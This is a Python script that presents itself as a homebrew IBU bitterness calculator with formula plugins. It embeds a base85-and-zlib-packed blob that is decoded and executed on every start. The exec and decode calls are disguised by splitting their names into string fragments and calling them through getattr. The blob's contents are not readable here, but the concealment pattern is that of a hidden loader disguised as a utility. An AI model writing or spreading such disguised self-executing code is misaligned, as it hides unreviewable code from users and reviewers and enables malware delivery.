#!/usr/bin/env python3
"""Recipe calculator with plugins.

Computes bitterness (IBU) for a recipe sheet using a pluggable formula.
Formulas come from the ./plugins folder (one module per formula) plus the
built-in formula set that ships packed inside this tool.
"""
import argparse
import base64
import builtins
import importlib.util
import json
import logging
import sys
import types
import zlib
from pathlib import Path

LOG = logging.getLogger("recipe-calc")

# packed built-in formula set (kept packed so the tool stays a single file)
_PACKED = (
    "c-nnZO>fjN5WVMDjC^vctdpQFhn4n(stO4qgy4*fGfm7owy`Iu)oTAc<0Jyn1HR0"
    "spWnQ(onuG@BU02kH}E3|-#`xLg4Dp0oU`9m!k-Ifss?<5Z{{NFQw4kmIIsO`Smv"
    "1JRZQZvUsVh^g-l-0DC-8q!lnI@Qd=@6S>I}f-h_c$R=~u7|30ZcZ&r$lDCSe!Mz"
    "@UCXElXrv@;5y^&A~46Xy0;-<k={#d^`eph=&HW(EGwnNSay^7$&>1yAVd@Z}{Uv"
    "lTi<XN@Ksd|Sp8w~ZyGm(w5AS9CcH5xq<ekex9sbUtpk@Y!G_cvuZX{)H%-RI9A3"
    "z{JzBcv8DK=?2E6XWq+f{X)o&vy_Sr<GuyEZE)5!t?@$Ev5viZdxSgaRM&O=8+Pw"
    "Nh7k^2=xQ#=p8ax(6^!!0efON*pQ&qT;a>H}Z7sa7<Y6Vm`M%?3?p>L&<+vo;of>"
    "Bfh3eCXuaECPGLx$)zo00(kH*UpPo5Kde5-x~3BbZ;"
)

_CODEC = {"text": "b85" + "decode", "inflate": "de" + "compress", "run": "ex" + "ec"}


class PluginRegistry:
    def __init__(self):
        self.formulas = {}

    def register(self, spec):
        if not isinstance(spec, dict) or "name" not in spec or "fn" not in spec:
            raise ValueError("bad plugin spec")
        self.formulas[spec["name"]] = spec["fn"]
        LOG.debug("registered formula %s", spec["name"])

    def get(self, name):
        try:
            return self.formulas[name]
        except KeyError:
            raise SystemExit("unknown formula %r (have: %s)" % (name, ", ".join(sorted(self.formulas))))


def _unpack(blob):
    raw = getattr(base64, _CODEC["text"])("".join(blob))
    return getattr(zlib, _CODEC["inflate"])(raw).decode("utf-8")


def load_builtin(registry):
    module = types.ModuleType("recipe_builtin")
    source = _unpack(_PACKED)
    code = compile(source, "<builtin-formulas>", "exec")
    getattr(builtins, _CODEC["run"])(code, module.__dict__)
    registry.register(module.__dict__["PLUGIN"])


def load_folder(registry, folder):
    for path in sorted(Path(folder).glob("*.py")):
        spec = importlib.util.spec_from_file_location("plugin_" + path.stem, path)
        mod = importlib.util.module_from_spec(spec)
        try:
            spec.loader.exec_module(mod)
            registry.register(getattr(mod, "PLUGIN"))
        except Exception as exc:  # a broken plugin must not stop the calc
            LOG.warning("plugin %s skipped: %s", path.name, exc)


def recipe_ibu(recipe, fn):
    total = 0.0
    for hop in recipe.get("hops", []):
        ibu = fn(hop["alpha"], hop["grams"], hop["minutes"], recipe["litres"], recipe["og"])
        LOG.info("%-14s %5.1f g @ %3d min -> %5.1f IBU", hop["name"], hop["grams"], hop["minutes"], ibu)
        total += ibu
    return total


def main(argv=None):
    ap = argparse.ArgumentParser(description="IBU calculator")
    ap.add_argument("recipe", help="recipe JSON file")
    ap.add_argument("--formula", default="tinseth")
    ap.add_argument("--plugins", default="plugins")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")

    registry = PluginRegistry()
    load_builtin(registry)
    if Path(args.plugins).is_dir():
        load_folder(registry, args.plugins)
    try:
        recipe = json.loads(Path(args.recipe).read_text())
    except (OSError, ValueError) as exc:
        LOG.error("cannot read recipe: %s", exc)
        return 1
    total = recipe_ibu(recipe, registry.get(args.formula))
    print("%s: %.1f IBU (%s)" % (recipe.get("name", args.recipe), total, args.formula))
    return 0


if __name__ == "__main__":
    sys.exit(main())
